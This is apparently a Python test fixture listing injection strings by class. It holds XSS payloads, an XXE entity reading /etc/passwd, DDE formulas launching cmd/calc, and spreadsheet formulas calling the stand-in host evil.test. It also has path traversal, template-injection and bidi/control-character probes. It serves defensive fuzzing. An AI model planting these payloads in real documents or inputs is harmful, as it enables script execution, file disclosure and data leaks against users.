"""Hostile texts by class: what markup, scripts, formulas, paths, terminals, templates and parsers might obey."""

STRINGS: dict[str, tuple[str, ...]] = {
    "markup": (
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '"><svg onload=alert(1)>', "' onmouseover='alert(1)' x='", "<b>甲</b><h1>乙",
        "</td></tr></table><h1>甲", "<iframe src=javascript:alert(1)>", "<a href='javascript:alert(1)'>甲</a>", "<style>*{display:none}</style>", "<base href=//evil.test/>",
        "<meta http-equiv=refresh content=0;url=//evil.test>", "<form action=//evil.test><input name=q>", "<math><mi xlink:href=javascript:alert(1)>甲", "<svg><foreignObject><body onload=alert(1)>"),
    "ends of blocks": ("</script><script>alert(1)</script>", "</style><script>alert(1)</script>", "]]><script>alert(1)</script>", "<![CDATA[<script>alert(1)</script>]]>", "--><script>alert(1)</script><!--", "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>"),
    "entities": ("&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;", "<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;", "&amp;&quot;&apos;", "<?xml version='1.0'?><?php echo 1 ?>"),
    "addresses": ("javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "file:///etc/passwd", "//evil.test/a.js", "\\\\evil.test\\share"),
    "formulas": ("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", '=HYPERLINK("http://evil.test","甲")', "＝1+1", '=IMPORTXML("http://evil.test","//a")', "'=1+1", " =1+1"),
    "DDE": ("=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+cmd|'/C calc'!Z0", 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'),
    "paths": ("../../../etc/passwd", "..\\..\\evil", "C:\\Windows\\evil", "CON", "nul.txt", "LPT1", "a/../../b", "a\x00b.xlsx", ".", "~root", "a" * 300),
    "control characters": ("甲\x00乙", "甲\x07\x08乙", "\x1b[2J\x1b]0;evil\x07甲", "甲\x9b31m乙", "甲\r\n乙", "甲\x0b\x0c乙", "甲\x7f\x85乙", "_x001B_[2J", "_x202E_甲"),
    "turned and invisible": ("甲\u202e乙丙", "甲\u2066乙\u2069", "\u200f甲\u061c", "甲\u200b\u200c\u200d乙", "甲\ufeff乙", "甲\u2060\u2064乙", "\u2028甲\u2029", "甲\u00ad乙"),
    "halves and non-characters": ("甲\ud800乙", "甲\udfff", "甲\ufffe\uffff乙", "甲\U000e0041乙"),
    "templates and markup languages": (
        "{{ 7*7 }}", "{% for x in y %}", "{{ ''.__class__ }}", "{eval}`1`", "```{eval-rst}\n.. raw:: html\n```", ":::{include} /etc/passwd\n:::", "[甲](javascript:alert(1))", "![甲](//evil.test/a.png)", "`` `甲` ``", "$x$ $$y$$",
        '#import "/etc/passwd"', '#panic("甲")', "#set page(width: 1cm)", "\\input{/etc/passwd}", "%s %(a)s {0} {a.b}", "甲\\](x) [乙", "*甲* _乙_ ~丙~"),
    "Vega": ("datum.x", "datum['constructor']", '{"signal":"alert(1)"}', '{"expr":"1+1"}', "$schema", "__proto__", "constructor", 'a\\" + datum.value + "', "甲\\"),
    "not numbers": ("NaN", "Infinity", "-inf", "1e999", "9" * 400, "0x1F", "١٢٣"),
    "long": ("长" * 3000, "W" * 3000, "甲 " * 1500),
}
LONGEST = {"long": ("长" * 10_000_000,)}
"""What is offered at the gates only: 30 MB of text, no card could be given."""
ALL = tuple((kind, text) for kind, texts in STRINGS.items() for text in texts)
SHORT = tuple((kind, texts[0]) for kind, texts in STRINGS.items())
"""One of each class, for the short form."""
